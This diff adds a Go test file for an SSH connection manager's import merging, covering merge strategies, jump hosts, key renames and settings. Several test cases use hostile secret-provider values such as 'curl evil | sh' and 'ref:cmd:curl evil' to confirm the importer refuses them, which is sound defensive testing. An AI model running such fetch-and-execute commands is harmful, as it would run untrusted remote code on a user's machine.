@@ -0,0 +1,402 @@
+package cmd
+
+import (
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"sm/internal/models"
+)
+
+func TestMergeImport(t *testing.T) {
+	day := func(d int) time.Time { return time.Date(2024, 1, d, 0, 0, 0, 0, time.UTC) }
+	conn := func(name, host string) models.Connection {
+		return models.Connection{Name: name, Host: host, User: "root", Port: 22}
+	}
+	jumping := func(c models.Connection, hops ...string) models.Connection {
+		c.JumpHosts = hops
+		return c
+	}
+	dated := func(c models.Connection, created time.Time) models.Connection {
+		c.CreatedAt = created
+		return c
+	}
+	secret := func(c models.Connection, password, passphrase string) models.Connection {
+		c.Password, c.KeyPassphrase = password, passphrase
+		return c
+	}
+
+	tests := []struct {
+		name     string
+		existing []models.Connection
+		set      importSet
+		strategy string
+		actions  []string // name:result:target of each connection
+		keys     []string // name:result:target of each key
+		saved    map[string]string
+		jumps    map[string][]string
+		err      string
+	}{
+		{
+			name:     "new connections are added",
+			set:      importSet{Connections: []models.Connection{conn("web", "10.0.0.1")}},
+			strategy: strategySkip,
+			actions:  []string{"web:add:web"},
+			saved:    map[string]string{"web": "10.0.0.1"},
+		},
+		{
+			name:     "identical connections are unchanged",
+			existing: []models.Connection{conn("web", "10.0.0.1")},
+			set:      importSet{Connections: []models.Connection{conn("web", "10.0.0.1")}},
+			strategy: strategyOverwrite,
+			actions:  []string{"web:unchanged:web"},
+		},
+		{
+			name:     "skip keeps the existing connection",
+			existing: []models.Connection{conn("web", "10.0.0.1")},
+			set:      importSet{Connections: []models.Connection{conn("web", "10.0.0.2")}},
+			strategy: strategySkip,
+			actions:  []string{"web:skip:web"},
+			saved:    map[string]string{"web": "10.0.0.1"},
+		},
+		{
+			name:     "overwrite replaces it",
+			existing: []models.Connection{conn("web", "10.0.0.1")},
+			set:      importSet{Connections: []models.Connection{conn("web", "10.0.0.2")}},
+			strategy: strategyOverwrite,
+			actions:  []string{"web:overwrite:web"},
+			saved:    map[string]string{"web": "10.0.0.2"},
+		},
+		{
+			name:     "newest keeps whichever was created last",
+			existing: []models.Connection{dated(conn("old", "1"), day(2)), dated(conn("new", "1"), day(1))},
+			set: importSet{Connections: []models.Connection{
+				dated(conn("new", "2"), day(3)),
+				dated(conn("old", "2"), day(1)),
+			}},
+			strategy: strategyNewest,
+			actions:  []string{"new:overwrite:new", "old:skip:old"},
+			saved:    map[string]string{"new": "2", "old": "1"},
+		},
+		{
+			name:     "rename imports under a free name",
+			existing: []models.Connection{conn("web", "10.0.0.1"), conn("web-2", "10.0.0.2")},
+			set:      importSet{Connections: []models.Connection{conn("web", "10.0.0.3")}},
+			strategy: strategyRename,
+			actions:  []string{"web:rename:web-3"},
+			saved:    map[string]string{"web": "10.0.0.1", "web-2": "10.0.0.2", "web-3": "10.0.0.3"},
+		},
+		{
+			name:     "renames skip names that come later in the import",
+			existing: []models.Connection{conn("web", "10.0.0.1")},
+			set: importSet{Connections: []models.Connection{
+				conn("web", "10.0.0.2"),
+				conn("web-2", "10.0.0.3"),
+			}},
+			strategy: strategyRename,
+			actions:  []string{"web:rename:web-3", "web-2:add:web-2"},
+			saved:    map[string]string{"web": "10.0.0.1", "web-2": "10.0.0.3", "web-3": "10.0.0.2"},
+		},
+		{
+			name:     "jump hosts follow renamed connections",
+			existing: []models.Connection{conn("bastion", "10.0.0.1")},
+			set: importSet{Connections: []models.Connection{
+				jumping(conn("app", "10.0.1.1"), "bastion"),
+				conn("bastion", "10.0.0.9"),
+			}},
+			strategy: strategyRename,
+			actions:  []string{"app:add:app", "bastion:rename:bastion-2"},
+			jumps:    map[string][]string{"app": {"bastion-2"}},
+		},
+		{
+			name: "repeated names in one import are refused",
+			set: importSet{Connections: []models.Connection{
+				conn("web", "10.0.0.1"),
+				conn("web", "10.0.0.2"),
+			}},
+			strategy: strategySkip,
+			err:      "cannot import web: another imported item is already saved as web",
+		},
+		{
+			name:     "missing jump hosts are refused",
+			set:      importSet{Connections: []models.Connection{jumping(conn("app", "10.0.1.1"), "nowhere")}},
+			strategy: strategySkip,
+			err:      "cannot import app: jump host 'nowhere' of 'app' does not exist",
+		},
+		{
+			name:     "jump host cycles are refused",
+			existing: []models.Connection{jumping(conn("b", "10.0.0.2"), "a")},
+			set:      importSet{Connections: []models.Connection{jumping(conn("a", "10.0.0.1"), "b")}},
+			strategy: strategySkip,
+			err:      "cannot import a: jump host cycle detected: a -> b -> a",
+		},
+		{
+			name: "command secrets are refused",
+			set: importSet{Connections: []models.Connection{
+				secret(conn("web", "1"), "ref:cmd:curl evil", ""),
+				secret(conn("db", "2"), "", "env:DB_PASSPHRASE"),
+			}},
+			strategy: strategySkip,
+			err:      "refusing to import web: their secret references run commands",
+		},
+		{
+			name: "command secrets are imported when allowed",
+			set: importSet{
+				Connections:         []models.Connection{secret(conn("web", "1"), "ref:cmd:echo hi", "")},
+				AllowCommandSecrets: true,
+			},
+			strategy: strategySkip,
+			actions:  []string{"web:add:web"},
+			saved:    map[string]string{"web": "1"},
+		},
+		{
+			name:     "keys are renamed too",
+			set:      importSet{Keys: []models.SSHKey{{Name: "id", Path: "/new"}}},
+			strategy: strategyRename,
+			keys:     []string{"id:rename:id-2"},
+		},
+		{
+			name: "keys are renamed past later imported names",
+			set: importSet{Keys: []models.SSHKey{
+				{Name: "id", Path: "/new"},
+				{Name: "id-2", Path: "/other"},
+			}},
+			strategy: strategyRename,
+			keys:     []string{"id:rename:id-3", "id-2:add:id-2"},
+		},
+		{
+			name:     "keys are never overwritten by newest",
+			set:      importSet{Keys: []models.SSHKey{{Name: "id", Path: "/new"}}},
+			strategy: strategyNewest,
+			keys:     []string{"id:skip:id"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &models.AppConfig{
+				NextID:      10,
+				Connections: make(map[string]models.Connection),
+				SSHKeys:     map[string]models.SSHKey{"id": {Name: "id", Path: "/old"}},
+			}
+			for i, c := range tt.existing {
+				c.ID = i + 1
+				cfg.Connections[c.Name] = c
+			}
+
+			// A plan must not change anything
+			before := fmt.Sprint(cfg)
+			planned, plannedKeys, planErr := mergeImport(cfg, tt.set, tt.strategy, false)
+			if fmt.Sprint(cfg) != before {
+				t.Fatal("planning the import changed the config")
+			}
+
+			conns, keys, err := mergeImport(cfg, tt.set, tt.strategy, true)
+			if tt.err != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.err) {
+					t.Fatalf("mergeImport error = %v, want it to contain %q", err, tt.err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("mergeImport failed: %v", err)
+			}
+			if planErr != nil || !reflect.DeepEqual(planned, conns) || !reflect.DeepEqual(plannedKeys, keys) {
+				t.Errorf("the plan differs from what was applied: %v, %v, %v", planned, plannedKeys, planErr)
+			}
+			if got := describeActions(conns); !reflect.DeepEqual(got, tt.actions) {
+				t.Errorf("connections = %q, want %q", got, tt.actions)
+			}
+			if got := describeActions(keys); !reflect.DeepEqual(got, tt.keys) {
+				t.Errorf("keys = %q, want %q", got, tt.keys)
+			}
+			for name, host := range tt.saved {
+				if got := cfg.Connections[name]; got.Host != host || got.Name != name {
+					t.Errorf("saved %s = %+v, want host %s", name, got, host)
+				}
+			}
+			for name, hops := range tt.jumps {
+				if got := cfg.Connections[name].JumpHosts; !reflect.DeepEqual(got, hops) {
+					t.Errorf("%s jumps through %q, want %q", name, got, hops)
+				}
+			}
+		})
+	}
+}
+
+func TestMergeImportKeepsIdentity(t *testing.T) {
+	created := time.Date(2023, 5, 1, 0, 0, 0, 0, time.UTC)
+	used := time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC)
+	cfg := &models.AppConfig{
+		NextID: 8,
+		Connections: map[string]models.Connection{
+			"web": {ID: 3, Name: "web", Host: "old", CreatedAt: created, LastUsed: used, UseCount: 12},
+		},
+	}
+	set := importSet{Connections: []models.Connection{
+		{Name: "web", Host: "new", UseCount: 2},
+		{Name: "db", Host: "db"},
+	}}
+	if _, _, err := mergeImport(cfg, set, strategyOverwrite, true); err != nil {
+		t.Fatalf("mergeImport failed: %v", err)
+	}
+
+	web := cfg.Connections["web"]
+	if web.Host != "new" || web.ID != 3 || !web.CreatedAt.Equal(created) || !web.LastUsed.Equal(used) || web.UseCount != 12 {
+		t.Errorf("overwritten connection = %+v, want the new host with the old ID, dates and use count", web)
+	}
+	db := cfg.Connections["db"]
+	if db.ID != 8 || cfg.NextID != 9 || db.CreatedAt.IsZero() {
+		t.Errorf("added connection = %+v and next ID %d, want ID 8, next ID 9 and a creation time", db, cfg.NextID)
+	}
+}
+
+// describeActions formats actions as name:result:target.
+func describeActions(actions []mergeAction) []string {
+	var described []string
+	for _, action := range actions {
+		described = append(described, action.Name+":"+action.Result+":"+action.Target)
+	}
+	return described
+}
+
+func TestMergeImportGroups(t *testing.T) {
+	cfg := &models.AppConfig{
+		Connections: make(map[string]models.Connection),
+		Groups:      map[string]models.Group{"prod": {User: "deploy"}},
+	}
+	set := importSet{Groups: map[string]models.Group{
+		"prod":    {User: "imported"},
+		"prod/eu": {Port: 2222},
+	}}
+	if _, _, err := mergeImport(cfg, set, strategyOverwrite, false); err != nil || len(cfg.Groups) != 1 {
+		t.Fatalf("planning the import = %v, groups %v, want the groups unchanged", err, cfg.Groups)
+	}
+	if _, _, err := mergeImport(cfg, set, strategyOverwrite, true); err != nil {
+		t.Fatalf("mergeImport failed: %v", err)
+	}
+	want := map[string]models.Group{"prod": {User: "deploy"}, "prod/eu": {Port: 2222}}
+	if !reflect.DeepEqual(cfg.Groups, want) {
+		t.Errorf("groups = %+v, want %+v", cfg.Groups, want)
+	}
+}
+
+func TestMergeSettings(t *testing.T) {
+	current := models.Settings{
+		EncryptPasswords: true,
+		Backups:          5,
+		Encryption:       models.EncryptionSettings{KeySource: models.KeySourceMasterPassword, Salt: "local"},
+		SecretProviders:  map[string]string{"vault": "vault read"},
+	}
+	with := func(change func(*models.Settings)) *models.Settings {
+		s := current
+		s.Encryption = models.EncryptionSettings{Salt: "other"}
+		s.SecretProviders = map[string]string{"vault": "vault read"}
+		change(&s)
+		return &s
+	}
+
+	tests := []struct {
+		name     string
+		set      importSet
+		changes  []string // field:old:new
+		imported bool
+		err      string
+	}{
+		{
+			name: "no settings in the import",
+			set:  importSet{IncludeSettings: true},
+		},
+		{
+			name: "the encryption key source is not compared",
+			set:  importSet{Settings: with(func(*models.Settings) {}), IncludeSettings: true},
+		},
+		{
+			name:    "differences are listed but not imported by default",
+			set:     importSet{Settings: with(func(s *models.Settings) { s.Backups, s.Editor = 20, "vim" })},
+			changes: []string{"editor::vim", "backups:5:20"},
+		},
+		{
+			name:     "included settings replace the current ones",
+			set:      importSet{Settings: with(func(s *models.Settings) { s.EncryptPasswords = false }), IncludeSettings: true},
+			changes:  []string{"encrypt_passwords:true:false"},
+			imported: true,
+		},
+		{
+			name: "new secret providers are refused",
+			set: importSet{
+				Settings:        with(func(s *models.Settings) { s.SecretProviders["evil"] = "curl evil | sh" }),
+				IncludeSettings: true,
+			},
+			err: "refusing to import settings.secret_providers evil: they run commands",
+		},
+		{
+			name: "changed secret providers are refused",
+			set: importSet{
+				Settings:        with(func(s *models.Settings) { s.SecretProviders["vault"] = "curl evil | sh" }),
+				IncludeSettings: true,
+			},
+			err: "refusing to import settings.secret_providers vault",
+		},
+		{
+			name: "secret providers are imported when allowed",
+			set: importSet{
+				Settings:            with(func(s *models.Settings) { s.SecretProviders["pass"] = "pass show" }),
+				IncludeSettings:     true,
+				AllowCommandSecrets: true,
+			},
+			changes:  []string{"secret_providers:vault=vault read:pass=pass show,vault=vault read"},
+			imported: true,
+		},
+		{
+			name: "removed secret providers need no permission",
+			set: importSet{
+				Settings:        with(func(s *models.Settings) { s.SecretProviders = nil }),
+				IncludeSettings: true,
+			},
+			changes:  []string{"secret_providers:vault=vault read:"},
+			imported: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &models.AppConfig{Settings: current}
+
+			// A plan must not change anything
+			if _, err := mergeSettings(cfg, tt.set, false); err != nil || !reflect.DeepEqual(cfg.Settings, current) {
+				t.Fatalf("planning the import = %v, settings %+v, want them unchanged", err, cfg.Settings)
+			}
+
+			changes, err := mergeSettings(cfg, tt.set, true)
+			if tt.err != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.err) {
+					t.Fatalf("mergeSettings error = %v, want it to contain %q", err, tt.err)
+				}
+				if !reflect.DeepEqual(cfg.Settings, current) {
+					t.Errorf("refused settings were saved: %+v", cfg.Settings)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("mergeSettings failed: %v", err)
+			}
+			var got []string
+			for _, c := range changes {
+				got = append(got, c.Field+":"+c.Old+":"+c.New)
+			}
+			if !reflect.DeepEqual(got, tt.changes) {
+				t.Errorf("changes = %q, want %q", got, tt.changes)
+			}
+
+			want := current
+			if tt.imported {
+				want = *tt.set.Settings
+				want.Encryption = current.Encryption
+			}
+			if !reflect.DeepEqual(cfg.Settings, want) {
+				t.Errorf("settings = %+v, want %+v", cfg.Settings, want)
+			}
+		})
+	}
+}